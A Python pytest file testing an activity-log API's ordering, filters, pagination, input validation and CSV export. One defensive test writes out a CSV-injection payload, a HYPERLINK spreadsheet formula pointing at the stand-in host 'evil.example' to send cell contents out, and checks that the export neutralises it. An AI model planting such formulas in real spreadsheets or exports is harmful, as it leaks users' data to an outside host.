"""/api/activity: what was done, filtered, page by page, and as a table."""

import csv
import io
from typing import Any

import pytest

from tests.api.site import Site, User, on_a_laptop
from tests.conftest import Clock

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
"""OWASP, "CSV Injection", the full-width forms included."""


@pytest.fixture
def busy(site: Site, clock: Clock) -> User:
    """Somebody who has done four things, a minute apart, with two clients."""
    editor, script = site.connected(client="editor"), site.connected(client="script")
    steps = (
        (editor, "write_note", "ok"),
        (script, "list_notes", "ok"),
        (script, "write_note", ""),
        (editor, "get_tags", "ok"),
    )
    for user, tool, outcome in steps:
        arguments = {"path": "Moss", "body": outcome} if tool == "write_note" else {}
        user.call(tool, **arguments)
        clock.forward(60)
    return site.user()


def test_activity_is_newest_first(busy: User):
    lines = busy.activity()
    assert [line["action"] for line in lines] == ["get_tags", "write_note", "list_notes", "write_note"]
    assert [line["at"] for line in lines] == [1_800_000_000_000 + minute * 60_000 for minute in (3, 2, 1, 0)]


@pytest.mark.parametrize(
    ("asked", "found"),
    [
        ({"client": "script"}, ["write_note", "list_notes"]),
        ({"client": "nobody"}, []),
        ({"action": "write_note"}, ["write_note", "write_note"]),
        ({"outcome": "conflict"}, ["write_note"]),
        ({"outcome": "ok"}, ["get_tags", "list_notes", "write_note"]),
        ({"since": 1_800_000_120}, ["get_tags", "write_note"]),
        ({"until": 1_800_000_060}, ["list_notes", "write_note"]),
        ({"since": 1_800_000_060, "until": 1_800_000_120}, ["write_note", "list_notes"]),
        ({"client": "editor", "action": "write_note", "outcome": "ok"}, ["write_note"]),
        ({"limit": 2}, ["get_tags", "write_note"]),
    ],
)
def test_activity_is_filtered(busy: User, asked: dict[str, Any], found: list[str]):
    assert [line["action"] for line in busy.activity(**asked)] == found


@pytest.mark.parametrize("limit", [1, 2, 3, 4, 5])
@pytest.mark.parametrize("asked", [{}, {"client": "script"}])
def test_activity_comes_in_pages_that_neither_skip_nor_repeat(busy: User, limit: int, asked: dict[str, str]):
    seen, cursor, pages = [], "", 0
    while cursor is not None:
        page = busy.get("/api/activity", limit=limit, cursor=cursor, **asked)
        seen += page["activity"]
        cursor, pages = page["next_cursor"], pages + 1
        assert pages < 10
    assert seen == busy.activity(**asked)


@on_a_laptop
@pytest.mark.parametrize("asked", [{"limit": 0}, {"limit": 1001}, {"since": -1}, {"format": "xml"}, {"until": "x"}])
def test_activity_says_what_is_not_as_it_should_be(site: Site, asked: dict[str, Any]):
    answer = site.user().ask("GET", "/api/activity", params=asked)
    assert (answer.status_code, answer.json()["error"]) == (400, "invalid")
    assert next(iter(asked)) in answer.json()["message"]


def test_activity_comes_as_a_table_too(busy: User):
    answer = busy.ask("GET", "/api/activity", params={"format": "csv", "client": "script"})
    assert answer.headers["Content-Type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(answer.text)))
    lines = busy.activity(client="script")
    assert rows == [{name: str(value) for name, value in line.items()} for line in lines]


@on_a_laptop
@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t=", "\r=", "\n=", "\uff1d", "\uff0b", "\uff0d", "\uff20"])
def test_a_table_holds_nothing_that_a_spreadsheet_would_run(site: Site, start: str):
    formula = f'{start}HYPERLINK("http://evil.example?"&A1)'
    ada = site.connected(client=formula)
    ada.call("read_note", path=formula)
    text = ada.ask("GET", "/api/activity", params={"format": "csv"}).text
    cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
    assert any("HYPERLINK" in cell for cell in cells)
    assert [cell for cell in cells if cell.startswith(FORMULA_STARTS)] == []
